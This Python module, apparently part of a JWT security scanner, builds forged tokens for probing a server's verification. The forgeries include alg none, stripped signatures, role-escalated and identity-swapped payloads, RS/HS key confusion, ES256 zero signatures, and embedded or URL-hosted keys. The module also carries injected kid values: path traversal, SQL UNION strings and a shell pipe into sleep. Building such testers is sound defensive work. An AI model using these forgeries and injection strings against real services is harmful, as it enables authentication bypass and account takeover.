"""Forged tokens: what an attacker sends to a protected endpoint, built from a real token.

Each function takes the token the login returned and gives the :class:`ForgedToken` variants of
one attack, labelled so that a finding can name the ones a server accepted. pyjwt builds what it
is willing to build (the expired token with the profile's signing key); everything it refuses to
produce on purpose (alg none, stripped or zero signatures, an RSA public key or an empty key as an
HMAC secret) is written here byte by byte with :mod:`hmac` and :mod:`hashlib`.

The attacks follow jwt_tool's playbook and RFC 8725: alg none in four spellings (CVE-2015-2951),
a stripped signature (CVE-2020-28042), a tampered payload under the original signature, RS/HS key
confusion (CVE-2016-10555), kid injection (paths, SQL, a shell pipe), a key embedded in the header
(CVE-2018-0114), and ECDSA's zero signature (CVE-2022-21449, "psychic signatures").
"""

from __future__ import annotations

import datetime
import functools
import hashlib
import hmac
import json
import time
import warnings
from dataclasses import dataclass
from typing import Any

import jwt as pyjwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from .tokens import Jwt, b64url_encode, header_summary

NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
KID_TRAVERSAL = "../../../../../../dev/null"
KID_KNOWN_FILE = "../../../../../../proc/sys/kernel/randomize_va_space"
KID_KNOWN_CONTENT = b"2\n"  # ASLR on: the content of that file on every stock Linux host
KID_SQL_KEY = b"k"
KID_SQL_SINGLE = "x' UNION SELECT 'k'--"
KID_SQL_DOUBLE = 'x" UNION SELECT "k"--'
KID_PLAIN = "key"
# r = s = 0: raw r||s as JWS carries it (RFC 7518 §3.4), and the DER form Java's verifier parses
# (jwt_tool's "psychic signature" MAYCAQACAQA).
ES256_ZERO_RAW = bytes(64)
ES256_ZERO_DER = bytes.fromhex("3006020100020100")
_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True)
class ForgedToken:
    """One forged token and what it is, in words a finding can show."""

    label: str
    token: str

    def purpose(self, check: str) -> str:
        return f"forged token ({check}): {self.label}"


def segment(value: dict[str, Any]) -> str:
    """A JSON object as a compact base64url segment."""
    return b64url_encode(json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode("utf-8"))


def assemble(header: str | dict[str, Any], payload: str | dict[str, Any], signature: bytes | str) -> str:
    head = header if isinstance(header, str) else segment(header)
    body = payload if isinstance(payload, str) else segment(payload)
    sig = signature if isinstance(signature, str) else b64url_encode(signature)
    return f"{head}.{body}.{sig}"


def hmac_signature(alg: str, key: bytes, signing_input: bytes) -> bytes:
    """An HS* signature with any key, the empty one and a PEM included (pyjwt refuses both)."""
    return hmac.new(key, signing_input, _HMAC[alg]).digest()


def hmac_signed(header: dict[str, Any], payload: str | dict[str, Any], key: bytes) -> str:
    head = segment(header)
    body = payload if isinstance(payload, str) else segment(payload)
    signature = hmac_signature(header["alg"], key, f"{head}.{body}".encode("ascii"))
    return assemble(head, body, signature)


# --- the attacks ----------------------------------------------------------------------------


def alg_none(token: Jwt) -> list[ForgedToken]:
    """The header says ``alg: none`` (four spellings), the payload is untouched; signature empty or kept."""
    forged = []
    for spelling in NONE_SPELLINGS:
        header = {**token.header, "alg": spelling}
        forged.append(ForgedToken(f"header {header_summary(header)}, original payload, empty signature",
                                  assemble(header, token.segments[1], "")))
        forged.append(ForgedToken(f"header {header_summary(header)}, original payload, original signature",
                                  assemble(header, token.segments[1], token.segments[2])))
    return forged


def signature_stripped(token: Jwt) -> list[ForgedToken]:
    """The original header and payload with no signature, or with a damaged one."""
    damaged = bytearray(token.signature or b"\x00")
    damaged[len(damaged) // 2] ^= 0x01
    return [
        ForgedToken("original header and payload, signature removed (header.payload.)",
                    assemble(token.segments[0], token.segments[1], "")),
        ForgedToken("original header and payload, one bit of the signature flipped",
                    assemble(token.segments[0], token.segments[1], bytes(damaged))),
        ForgedToken("original header and payload, signature cut short by 4 characters",
                    assemble(token.segments[0], token.segments[1], token.segments[2][:-4] or "AAAA")),
    ]


# What an administrator's value of each role-like claim looks like, for a claim the token leaves null
# or out: a forgery must change the payload for real, or the server's acceptance proves nothing.
ROLE_LISTS = ("roles", "groups", "permissions", "authorities", "scopes")
ROLE_TEXTS = ("role", "scope")
ADMIN_FLAGS = ("admin", "is_admin", "isAdmin", "is_superuser", "is_staff", "admin_access")
ADMIN_ROLES = ["ROLE_ADMIN", "ROLE_SUPER_ADMIN", "admin"]


def escalated_roles(payload: dict[str, Any]) -> dict[str, Any]:
    """The payload with every role-like claim raised to an administrator's.

    A list gains the administrator roles, a text gains them as words, and a claim that is null (a
    CMS user without a role), an object or a number is replaced by a real administrator value: a
    claim marked as raised is always edited. When no role-like claim is there, ``roles`` and
    ``is_admin`` are added; the result always differs from ``payload``.
    """
    raised = dict(payload)
    for name in (*ROLE_LISTS, *ROLE_TEXTS):
        if name not in raised:
            continue
        value = raised[name]
        if isinstance(value, list):
            raised[name] = [*value, *(r for r in ADMIN_ROLES if r not in value)]
        elif isinstance(value, str) and value.strip():
            raised[name] = f"{value} admin ROLE_SUPER_ADMIN"
        else:  # null, empty, an object or a number: set a real administrator value
            raised[name] = list(ADMIN_ROLES) if name in ROLE_LISTS else "admin"
    for name in ADMIN_FLAGS:
        if name in raised:
            raised[name] = True
    if raised == payload:
        roles = payload.get("roles")  # a list already holding every admin role: they are added once more
        raised.update({"roles": [*roles, *ADMIN_ROLES] if isinstance(roles, list) else list(ADMIN_ROLES),
                       "is_admin": True})
    return raised


def identity_claim_of(payload: dict[str, Any], preferred: str | None) -> str | None:
    """The claim that names the user: the profile's, else the usual ones in the payload."""
    for name in (preferred, "sub", "user_id", "username", "email", "uid", "id"):
        if name and name in payload:
            return name
    return None


def swapped_identity(value: Any, other: str | None) -> Any:
    """Another user's identity, of the same type as ``value``."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1 if value != 1 else 2
    if other and other != value:
        return other
    text = str(value)
    return f"admin@{text.rsplit('@', 1)[1]}" if "@" in text and not text.startswith("admin@") else "root"


def changed_claims(original: dict[str, Any], forged: dict[str, Any]) -> list[str]:
    """The claims whose value differs between two payloads (added and removed ones included)."""
    missing = object()
    return sorted(k for k in {*original, *forged} if original.get(k, missing) != forged.get(k, missing))


def payload_tampered(token: Jwt, *, identity_claim: str | None, other_identity: str | None) -> list[ForgedToken]:
    """The original header and signature over a changed payload: more rights, or someone else.

    Every variant's payload really differs from the token's (its label names the claims that
    changed); one that would not is never built, so a server accepting it proves a forgery.
    """
    forged = []
    raised = escalated_roles(token.payload)
    changed = changed_claims(token.payload, raised)
    if changed:
        forged.append(ForgedToken(f"role escalation ({', '.join(changed)} changed), original header and signature",
                                  assemble(token.segments[0], raised, token.segments[2])))
    claim = identity_claim_of(token.payload, identity_claim)
    if claim is not None:
        swapped = {**token.payload, claim: swapped_identity(token.payload[claim], other_identity)}
        if changed_claims(token.payload, swapped):
            forged.append(ForgedToken(f"identity swapped ({claim} names another user), original header and "
                                      f"signature", assemble(token.segments[0], swapped, token.segments[2])))
    return [f for f in forged if not same_token(f.token, token.raw)]


def same_token(forged: str, original: str) -> bool:
    """True when a forgery carries the original header and payload (and signature): it forges nothing."""
    return forged.split(".")[:3] == original.split(".")[:3]


def key_confusion(token: Jwt, public_key_pem: bytes) -> list[ForgedToken]:
    """HS256 keyed with the target's own public key, byte for byte as published (with and without
    the final newline, which is where implementations differ)."""
    header = {**token.header, "alg": "HS256"}
    pem = public_key_pem.strip() + b"\n"
    forged = []
    for key, how in ((pem, "PEM with its final newline"), (pem.rstrip(b"\n"), "PEM without the final newline")):
        forged.append(ForgedToken(f"header {header_summary(header)}, HMAC keyed with the public key ({how})",
                                  hmac_signed(header, token.segments[1], key)))
    return forged


def kid_injection(token: Jwt) -> list[ForgedToken]:
    """A ``kid`` the server may use as a path or in SQL, HS256-signed with the key that lookup would yield.

    Path traversal to /dev/null (the empty key) and to a file whose content every Linux host shares
    (``randomize_va_space``: ``2`` and a newline); SQL injection in both quote styles, whose UNION makes
    the key lookup return ``k``. The command variant is judged by timing: see :func:`kid_command`.
    """
    variants: list[tuple[str, bytes, str]] = [
        (KID_TRAVERSAL, b"", "path traversal to /dev/null, HMAC keyed with the empty key"),
        ("/dev/null", b"", "absolute path /dev/null, HMAC keyed with the empty key"),
        (KID_KNOWN_FILE, KID_KNOWN_CONTENT,
         "path traversal to a file with known content (randomize_va_space), HMAC keyed with its content '2\\n'"),
        (KID_SQL_SINGLE, KID_SQL_KEY, "SQL injection with ' (UNION SELECT 'k'), HMAC keyed with 'k'"),
        (KID_SQL_DOUBLE, KID_SQL_KEY, 'SQL injection with " (UNION SELECT "k"), HMAC keyed with \'k\''),
    ]
    forged = []
    for kid, key, how in variants:
        header = {**token.header, "alg": "HS256", "kid": kid}
        forged.append(ForgedToken(f"{how}; header {header_summary(header)}",
                                  hmac_signed(header, token.segments[1], key)))
    return forged


def kid_command(token: Jwt, *, sleep: int | None) -> ForgedToken:
    """A ``kid`` with a shell pipe into ``sleep`` (or, as the timing baseline, the same kid without it)."""
    kid = f"{KID_PLAIN}|sleep {sleep}" if sleep else KID_PLAIN
    header = {**token.header, "alg": "HS256", "kid": kid}
    label = (f"command injection (kid '{kid}'): an answer {sleep} s late means a shell ran it" if sleep
             else f"the plain kid '{kid}' (timing baseline for the command variant)")
    return ForgedToken(label, hmac_signed(header, token.segments[1], b""))


def embedded_jwk(token: Jwt) -> list[ForgedToken]:
    """The login's claims re-signed with fresh RSA and EC keys whose public JWK rides in the header (CVE-2018-0114).

    A verifier that takes the key from the token itself accepts anything anyone signs.
    """
    rsa_key = fresh_rsa_key()
    ec_key = ec.generate_private_key(ec.SECP256R1())
    forged = []
    for alg, key, family in (("RS256", rsa_key, RSAAlgorithm(RSAAlgorithm.SHA256)),
                             ("ES256", ec_key, ECAlgorithm(ECAlgorithm.SHA256))):
        jwk = json.loads(family.to_jwk(key.public_key()))
        header = {**{k: v for k, v in token.header.items() if k != "kid"}, "alg": alg, "jwk": jwk}
        head = segment(header)
        signature = family.sign(f"{head}.{token.segments[1]}".encode("ascii"), key)
        forged.append(ForgedToken(f"the login's claims signed {alg} with a fresh {jwk['kty']} key, its public JWK "
                                  f"in the header's jwk", assemble(head, token.segments[1], signature)))
    return forged


def es256_zero_signature(token: Jwt) -> list[ForgedToken]:
    """ES256 with r = s = 0, which Java 15-18's ECDSA verifier accepted for any message (CVE-2022-21449)."""
    header = {**token.header, "alg": "ES256"}
    return [
        ForgedToken(f"header {header_summary(header)}, signature r = s = 0 (64 zero bytes)",
                    assemble(header, token.segments[1], ES256_ZERO_RAW)),
        ForgedToken(f"header {header_summary(header)}, signature r = s = 0 in DER (MAYCAQACAQA)",
                    assemble(header, token.segments[1], ES256_ZERO_DER)),
    ]


def expired_payload(payload: dict[str, Any], *, lifetime: int | None, leeway: int,
                    now: float | None = None) -> dict[str, Any]:
    """The claims of a token that expired well beyond any leeway: every date moved into the past."""
    now = time.time() if now is None else now
    span = lifetime or 3600
    expired_at = int(now) - max(leeway, 30) - 600
    moved = {**payload, "iat": expired_at - span, "exp": expired_at}
    if "nbf" in payload:
        moved["nbf"] = expired_at - span
    return moved


def expired_signed(token: Jwt, *, key: Any, algorithm: str, lifetime: int | None, leeway: int,
                   now: float | None = None) -> ForgedToken:
    """An expired copy of ``token`` signed with the profile's signing key (a test deployment's)."""
    payload = expired_payload(token.payload, lifetime=lifetime, leeway=leeway, now=now)
    headers = {k: v for k, v in token.header.items() if k not in ("alg",)}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # short test secrets make pyjwt warn
        forged = pyjwt.encode(payload, key, algorithm=algorithm, headers=headers)
    return ForgedToken(f"signed with the profile's signing key ({algorithm}), exp {payload['exp']} "
                       f"({int((now or time.time()) - payload['exp'])} s ago)", forged)


def resigned(token: Jwt, payload: dict[str, Any], *, key: Any, algorithm: str, label: str) -> ForgedToken:
    """``payload`` under the token's own header, signed with the profile's signing key (a test deployment's)."""
    headers = {k: v for k, v in token.header.items() if k != "alg"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # short test secrets make pyjwt warn
        forged = pyjwt.encode(payload, key, algorithm=algorithm, headers=headers)
    return ForgedToken(label, forged)


@functools.cache
def fresh_rsa_key() -> rsa.RSAPrivateKey:
    """A key nobody but this process holds: what an attacker signs with.

    Made once per process (a 2048-bit key takes about 50 ms to generate) and shared by the forgeries
    that sign with an attacker's key; the server has never seen it, whichever check sends it first.
    """
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def jwks_document(key: rsa.RSAPrivateKey, kid: str) -> bytes:
    """A JWKS (RFC 7517 §5) holding the public half of ``key`` under ``kid``."""
    jwk = {**json.loads(RSAAlgorithm.to_jwk(key.public_key())), "kid": kid, "use": "sig", "alg": "RS256"}
    return json.dumps({"keys": [jwk]}).encode("utf-8")


def certificate_pem(key: rsa.RSAPrivateKey) -> bytes:
    """A self-signed X.509 certificate for ``key``, PEM, as an ``x5u`` URL serves it (RFC 7515 §4.1.5)."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "authconform x5u test")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                   .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
                   .not_valid_after(now + datetime.timedelta(days=1)).sign(key, hashes.SHA256()))
    return certificate.public_bytes(serialization.Encoding.PEM)


def key_by_url(token: Jwt, *, parameter: str, url: str, key: rsa.RSAPrivateKey, kid: str) -> ForgedToken:
    """The login's claims signed RS256 with ``key``, the header's ``jku`` or ``x5u`` naming where its public half is."""
    header = {**token.header, "alg": "RS256", "kid": kid, parameter: url}
    head = segment(header)
    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(f"{head}.{token.segments[1]}".encode("ascii"), key)
    return ForgedToken(f"the login's claims signed RS256 with a fresh key, header {parameter} {url}",
                       assemble(head, token.segments[1], signature))
